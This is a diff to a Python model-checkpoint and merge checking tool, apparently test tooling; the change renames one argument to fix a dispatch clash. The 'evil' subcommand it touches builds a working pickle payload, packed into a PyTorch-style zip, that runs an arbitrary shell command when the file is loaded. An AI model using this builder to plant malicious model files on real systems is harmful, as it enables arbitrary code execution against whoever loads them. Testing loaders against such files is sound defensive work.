@@ -430,7 +430,7 @@ def cmd_forward(a):
 
 def cmd_evil(a):
     class Evil:
-        def __reduce__(self): return (os.system, (a.cmd,))
+        def __reduce__(self): return (os.system, (a.command,))
     payload = pickle.dumps(collections.OrderedDict([("w", Evil())]), protocol=2)
     with zipfile.ZipFile(a.file, "w") as z:
         z.writestr("archive/data.pkl", payload); z.writestr("archive/version", "3\n")
@@ -450,7 +450,7 @@ def main():
     c = sub.add_parser("check-merge"); c.add_argument("--base", required=True); c.add_argument("--lora", action="append", default=[])
     c.add_argument("--merged", required=True); c.add_argument("--format", default="hf"); c.add_argument("--max-ulps", type=int, default=0); c.add_argument("--dtype")
     f = sub.add_parser("forward"); f.add_argument("dir"); f.add_argument("ids")
-    e = sub.add_parser("evil"); e.add_argument("file"); e.add_argument("cmd")
+    e = sub.add_parser("evil"); e.add_argument("file"); e.add_argument("command")
     a = ap.parse_args()
     {"model": cmd_model, "adapter": cmd_adapter, "check-merge": cmd_check_merge, "forward": cmd_forward, "evil": cmd_evil}[a.cmd](a)
 
